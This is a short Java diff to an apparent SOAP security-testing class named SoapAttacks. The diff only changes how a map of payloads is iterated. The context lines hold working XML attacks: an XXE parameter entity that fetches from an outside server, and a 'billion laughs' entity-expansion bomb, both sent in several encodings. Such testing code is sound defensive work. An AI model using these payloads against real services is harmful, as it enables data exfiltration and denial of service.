@@ -7,7 +7,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
-import java.util.TreeSet;
+import java.util.TreeMap;
 
 /** Attacks in SOAP envelopes. */
 final class SoapAttacks {
@@ -47,8 +47,9 @@ final class SoapAttacks {
                 "parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM '" + server + "'>%p;]>",
                 "laughs", "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '" + "&a;".repeat(1_000) + "'><!ENTITY e '"
                         + "&b;".repeat(1_000) + "'>]>");
-        for (String name : new TreeSet<>(doctypes.keySet())) {
-            String doctype = doctypes.get(name);
+        for (Map.Entry<String, String> each : new TreeMap<>(doctypes).entrySet()) {
+            String name = each.getKey();
+            String doctype = each.getValue();
             String entity = doctype.contains("ENTITY e ") ? "&e;" : "";
             String inner = doctype + Target.listXml(entity, "<CardNo>1</CardNo>");
             for (String charset : List.of("UTF-8", "GBK", "UTF-16LE", "UTF-16BE", "ISO-8859-1", "GB18030")) {
